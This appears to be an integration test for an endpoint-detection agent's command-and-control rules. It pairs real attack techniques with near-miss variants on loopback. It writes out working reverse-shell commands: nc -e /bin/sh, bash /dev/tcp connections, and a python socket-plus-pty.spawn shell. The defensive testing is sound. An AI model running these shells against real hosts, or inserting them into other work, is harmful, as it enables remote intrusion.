/**
 * Default ruleset, command and control (config/rules.d/command-and-control.toml) on real kernel events:
 * the shipped config and rules.d with network telemetry on (`events.network`, `network.enabled`: opt-in in
 * the shipped config). Loopback only: connects go to a listener this test opens on 127.0.0.1 or to closed
 * loopback ports (refused). The python reverse shell is real (socket -> pty.spawn('/bin/sh')) and the
 * listener sends it `exit`. Debian's nc.openbsd has no -e, ncat and socat are not installed: the shell
 * handed out by netcat is done by a stand-in (bash installed as `ncat` in a temp dir).
 * RG_RECORD_CONTENT_FIXTURES=1 re-records test/fixtures/content/command-and-control/ from this run.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import { skipUnlessRoot, type Rec } from './helpers/agent-process.js';
import { startShippedAgent } from './helpers/shipped-agent.js';
import { caseAlerts, caseRecords, caseRuleIds, recordFixture, runCase, type CaseRun } from './helpers/content-case.js';

const TACTIC = 'command-and-control';
const PY = '/usr/bin/python3';

test('command-and-control rules alert on real techniques and not on their near misses', async (t) => {
  if (skipUnlessRoot(t)) return;
  const dir = mkdtempSync('/var/tmp/rg-content-b-c2-');
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  copyFileSync('/usr/bin/bash', join(dir, 'ncat'));
  // the attacker's end: answers every connection with `exit` so the handed-out shell ends at once
  const server = createServer((sock) => {
    sock.on('error', () => undefined);
    sock.end('exit\n');
  });
  await new Promise<void>((res) => server.listen(0, '127.0.0.1', res));
  t.after(() => server.close());
  const port = (server.address() as AddressInfo).port;
  const pyReverse = `import socket,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('127.0.0.1',${port}))\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1)\npty.spawn('/bin/sh')`;
  const pyConnectRun = `import socket,subprocess\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('127.0.0.1',${port}))\nsubprocess.run(['/usr/bin/true'])`;
  const agent = await startShippedAgent(['events.network=true', 'network.enabled=true']);
  try {
    const plan: Array<[string, 'positive' | 'near-miss', string[]]> = [
      ['RG-C2-NETCAT-EXEC', 'positive', ['nc', '-e', '/bin/sh', '127.0.0.1', '9']],
      ['RG-C2-NETCAT-EXEC', 'near-miss', ['nc', '-z', '-w', '1', '127.0.0.1', '9']],
      ['RG-C2-DEV-TCP', 'positive', ['bash', '-c', 'exec 3<>/dev/tcp/127.0.0.1/9; true']],
      ['RG-C2-DEV-TCP', 'near-miss', ['bash', '-c', 'test -e /dev/tcp || true']],
      ['RG-C2-SHELL-CONNECT', 'positive', ['bash', '-c', `exec 3<>/dev/tcp/127.0.0.1/${port}; true`]],
      ['RG-C2-SHELL-CONNECT', 'near-miss', [PY, '-c', `import socket; socket.socket().connect_ex(('127.0.0.1',${port}))`]],
      ['RG-C2-SUSPICIOUS-PORT', 'positive', ['bash', '-c', 'exec 3<>/dev/tcp/127.0.0.1/5555; true']],
      ['RG-C2-SUSPICIOUS-PORT', 'near-miss', ['curl', '-s', '--max-time', '1', 'http://127.0.0.1:5555/']],
      ['RG-C2-NETCAT-SHELL', 'positive', [join(dir, 'ncat'), '-c', '/bin/sh -c true; true']],
      ['RG-C2-NETCAT-SHELL', 'near-miss', [join(dir, 'ncat'), '-c', '/usr/bin/true; true']],
      ['RG-C2-CONNECT-THEN-SHELL', 'positive', [PY, '-c', pyReverse]],
      ['RG-C2-CONNECT-THEN-SHELL', 'near-miss', [PY, '-c', pyConnectRun]],
    ];
    const runs: Array<[string, 'positive' | 'near-miss', CaseRun]> = [];
    for (const [rule, kind, argv] of plan) runs.push([rule, kind, await runCase(`${rule} ${kind}`, argv)]);
    const last = await runCase('sentinel', ['/usr/bin/true', 'rg-content-b-sentinel']);
    await agent.waitFor((r) => r.event_type === 'process_exit' && r.pid === last.pid, 'the sentinel exit');
    const records: Rec[] = agent.records();
    for (const [rule, kind, run] of runs) {
      const got = caseAlerts(records, run, rule);
      if (kind === 'positive') assert.ok(got.length >= 1, `${run.name} (exit ${run.code}): expected ${rule}; alerts of the case: ${caseRuleIds(records, run).join(', ') || 'none'}; records:\n${caseRecords(records, run).filter((r) => r.event_type !== 'file_open').map((r) => JSON.stringify(r)).join('\n')}`);
      else assert.deepEqual(got, [], `${run.name}: ${rule} must not fire`);
      recordFixture(TACTIC, `${rule}.${kind}.ndjson`, records, [run]);
    }
    // the reverse shell's alert is the shell, started by the python one-liner that connected to us
    const seq = caseAlerts(records, runs.find(([r, k]) => r === 'RG-C2-CONNECT-THEN-SHELL' && k === 'positive')![2], 'RG-C2-CONNECT-THEN-SHELL')[0]!;
    assert.match(String(seq.exe_path), /\/(da|ba)?sh$/);
    const steps = seq.sequence as Rec[];
    assert.equal(steps[0]!.event_type, 'network_connect');
    assert.equal(steps[0]!.remote_port, port);
    const susp = caseAlerts(records, runs.find(([r, k]) => r === 'RG-C2-SUSPICIOUS-PORT' && k === 'positive')![2], 'RG-C2-SUSPICIOUS-PORT')[0]!;
    assert.match(String(susp.summary), /connected to 127\.0\.0\.1:5555/);
  } finally {
    await agent.stop();
  }
});
